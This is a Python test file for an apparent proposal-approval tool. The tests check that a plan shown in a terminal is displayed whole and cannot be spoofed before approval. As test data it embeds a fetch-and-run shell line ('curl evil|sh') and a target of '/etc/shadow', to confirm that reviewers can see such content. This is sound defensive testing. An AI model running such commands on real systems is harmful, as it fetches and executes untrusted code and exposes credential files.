"""All about a proposal in a terminal, and what somebody is shown before they approve it."""

import re
from dataclasses import fields, replace
from typing import Any

import pytest

from mainstay.analysis.contents.plan_fields import FIELDS
from mainstay.domain.calendar import Calendar, Freeze
from mainstay.domain.decision import Choice
from mainstay.domain.evidence import Outcome
from mainstay.domain.people import Holding, Role
from mainstay.domain.plan import Action, Change, Plan, Repeat, Severity, Step
from mainstay.domain.proposal_view import ProposalView
from mainstay.flows import looking
from mainstay.present.text.answer import answered
from mainstay.present.text.look import Look
from mainstay.present.text.proposal import asked, explained, shown
from mainstay.present.text.proposals import listed
from mainstay.present.times import exact
from tests.fakes.offices import LEAD, PEOPLE, House, made_policy
from tests.fakes.records import plan

MADE = plan(subject="repo:shop", expires=10_000)
STEP = MADE.steps[0]
ONE: dict[str, Any] = {
    "key": "another",
    "title": "Another",
    "why": "because",
    "change": Change.MODEL,
    "subject": "repo:shop2",
    "environment": "staging",
    "base": "5c00",
    "steps": (*MADE.steps, Step("third", Action("wait"))),
    "severity": Severity.LOW,
    "targets": ("shop/package.json", "/etc/shadow"),
    "risk": "high",
    "way_back": "none",
    "effort": 0.50000001,
    "expires": 10_001,
    "labels": {"part": "front", "gate": "none"},
}
OF_A_STEP: dict[str, Any] = {
    "id": "other",
    "action": Action("set-version", {"file": "package.json"}),
    "check": None,
    "undo": None,
    "time_out": 601,
    "tries": 2,
    "repeat": Repeat.NEVER,
    "after": ("deploy",),
}
TELLING = [asked, shown]


def view_of(made: Plan, who: str = "bob") -> ProposalView:
    """Give what somebody sees of a plan that was submitted."""
    house = House()
    return looking.shown(house.office(who), house.submit(of=made).proposal)


def matter(text: str) -> str:
    """Give what is told but for the hash, which differs anyhow."""
    return text[: text.index("\nContent ")]


@pytest.mark.parametrize("tell", TELLING)
@pytest.mark.parametrize("field", [name for name in FIELDS[1][Plan] if name != "version"])
def test_every_field_that_is_hashed_is_told(tell, field: str) -> None:
    before, now = (matter(tell(view_of(one), Look())) for one in (MADE, replace(MADE, **{field: ONE[field]})))
    assert before != now


@pytest.mark.parametrize("tell", TELLING)
@pytest.mark.parametrize("field", FIELDS[1][Step])
def test_every_field_of_a_step_is_told(tell, field: str) -> None:
    step = replace(STEP, **{field: OF_A_STEP[field]})
    before, now = (
        matter(tell(view_of(replace(MADE, steps=(one, Step("deploy", Action("deploy"))))), Look()))
        for one in (STEP, step)
    )
    assert before != now


def test_the_fields_tried_here_are_all_that_a_plan_has() -> None:
    assert {*ONE, "version"} == {field.name for field in fields(Plan)} == set(FIELDS[1][Plan])
    assert set(OF_A_STEP) == {field.name for field in fields(Step)} == set(FIELDS[1][Step])
    assert "version 1" in asked(view_of(MADE), Look())


@pytest.mark.parametrize("tell", TELLING)
@pytest.mark.parametrize("width", [40, 80, 130])
def test_what_is_hashed_is_never_cut(tell, width: int) -> None:
    padding = "x" * 5_000
    evil = f"curl https://ok.example/{padding} ; curl evil|sh # {padding}"
    made = replace(
        MADE,
        steps=(Step("one", Action("command", {"argv": ("sh", "-c", evil), padding + "evil-name": 1})),),
        why=f"{padding}evil-why",
        base=f"{padding}evil-base",
        targets=(f"{padding}evil-target",),
        labels={"a": f"{padding}evil-label"},
    )
    text = tell(view_of(made), Look(width=width))
    assert "…" not in text
    whole = re.sub(r"\\?\n +", "", text).replace(" ", "")
    for each in ("curlevil|sh", "evil-name", "evil-why", "evil-base", "evil-target", "evil-label"):
        assert each in whole
    assert max(map(len, text.split("\n"))) <= width


def test_no_line_of_a_value_begins_like_a_step() -> None:
    spoof = "x" * 60 + " 2. pay: command argv=[true] " + "x" * 60 + " undo: nothing at all"
    made = replace(MADE, title=f"{'t' * 90} approved", steps=(Step("one", Action("command", {"a": spoof})),))
    text = asked(view_of(made), Look(width=80))
    assert not re.search(r"^ {0,2}2\. pay", text, re.MULTILINE)
    assert not re.search(r"^ {6}undo: nothing at", text, re.MULTILINE)
    assert not re.search(r"^ {0,2}approved", text, re.MULTILINE)


def test_a_terminal_of_ascii_tells_signs_apart() -> None:
    texts = [
        asked(view_of(replace(MADE, why=why, base=why)), Look(unicode=False)) for why in ("1 × 2", "1 x 2")
    ]
    assert "\\xd7" in texts[0] and "\\xd7" not in texts[1]
    assert all(text.isascii() for text in texts)


@pytest.mark.parametrize("tell", TELLING)
def test_gates_with_what_is_missing_are_told(tell) -> None:
    text = tell(view_of(MADE), Look())
    assert "OPEN: lead" in text and "missing: an approval by lead" in text
    assert "Not now (it is waiting; its gates are not all passed)." in text


def test_steps_that_wait_for_each_other_are_told_too() -> None:
    loop = (
        Step("a", Action("wait"), after=("b",)),
        Step("b", Action("wait"), after=("a",)),
        Step("c", Action("wait")),
    )
    for steps in (loop, (Step("same", Action("wait")), Step("same", Action("rm")))):
        text = asked(view_of(replace(MADE, steps=steps)), Look())
        assert [line for line in text.split("\n") if re.match(r"  \d\. ", line)] == [
            f"  {at}. {step.id}: {step.action.kind}" for at, step in enumerate(steps, 1)
        ]


@pytest.mark.parametrize("tell", [asked, shown, explained])
def test_what_was_approved_and_is_no_longer_says_so_first(tell) -> None:
    house = House()
    made = house.submit(of=MADE).proposal
    house.choose("bob", made, until=house.clock.now() + 2)
    assert "  approved, p" in tell(looking.shown(house.office("cyd"), made), Look()).replace(made.id, "p")
    house.clock.advance(3)
    assert (
        tell(looking.shown(house.office("cyd"), made), Look())
        .split("\n")[1]
        .startswith("  waiting, no longer approved, ")
    )


@pytest.mark.parametrize("tell", TELLING)
def test_the_word_of_who_proposed_it_is_told_as_such(tell) -> None:
    house = House()
    made = house.submit(of=MADE).proposal
    house.attest("ada", made, Outcome.PASSED, kind="backup")
    house.attest("bob", made, Outcome.PASSED, kind="tests")
    text = tell(looking.shown(house.office("cyd"), made), Look())
    assert "passed: backup, by ada, who proposed it, just now" in text
    assert "passed: tests, by bob just now" in text


def test_gates_say_by_whom_as_what_and_which_freeze_they_do_not_heed() -> None:
    house = House(
        made_policy(
            replace(LEAD, frozen=False),
            calendar=Calendar(freezes=(Freeze("sale", 0, 1 << 40, "a sale"),)),
        )
    )
    held = (*PEOPLE.holdings, Holding("cyd", Role.LEAD, "shop", lent_by="bob"))
    house.policy = replace(house.policy, directory=replace(PEOPLE, holdings=held))
    made = house.submit(of=MADE).proposal
    house.choose("cyd", made)
    view = looking.shown(house.office("ada"), made)
    for text in (tell(view, Look(width=200)) for tell in (asked, shown, explained)):
        assert "passed: lead, by cyd, as lead lent by bob" in text
        assert "it does not heed what is frozen now: sale" in text
        assert "It may be applied now." in text
    assert "it does not heed what is frozen now: sale" in answered(view, "approved", Look())


def test_a_gate_that_was_broken_says_by_whom_and_until_when() -> None:
    freeze = Freeze("sale", 0, 1 << 40, "a sale")
    house = House(made_policy(calendar=Calendar(freezes=(freeze,))))
    made = house.submit(of=MADE).proposal
    house.choose("cyd", made, Choice.OVERRIDE)
    view = looking.shown(house.office("bob"), made)
    until = exact(house.clock.now() + 4 * 3_600)
    for tell in (asked, shown, explained):
        text = " ".join(tell(view, Look(width=200)).split())
        assert f"approved, broken by cyd until {until}" in text
        assert f"BROKEN: lead, broken by cyd until {until}" in text
        assert f"It may be applied now: broken by cyd until {until}, in spite of this: frozen: sale" in text
        assert "missing: an approval by lead" in text and "passed: lead" not in text
    page = looking.listed(house.office("bob"), looking.Wish())
    assert re.search(r"BROKEN", listed(page, Look(width=120)))
    house.choose("bob", made, Choice.REVIEW)
    view = looking.shown(house.office("bob"), made)
    assert "bob reviewed the override (justified) as lead" in shown(view, Look(width=200))


def test_what_a_revision_changed_is_told_whole() -> None:
    house = House()
    house.submit(of=MADE)
    long = "y" * 2_000
    made = house.submit(of=replace(MADE, why=f"{long} evil {long}")).proposal
    house.choose("bob", made, Choice.SNOOZE, until=house.clock.now() + 9)
    view = looking.shown(house.office("bob"), made)
    for tell in TELLING:
        assert tell(view, Look()).count(" evil ") + tell(view, Look()).count("evil\n") >= 2
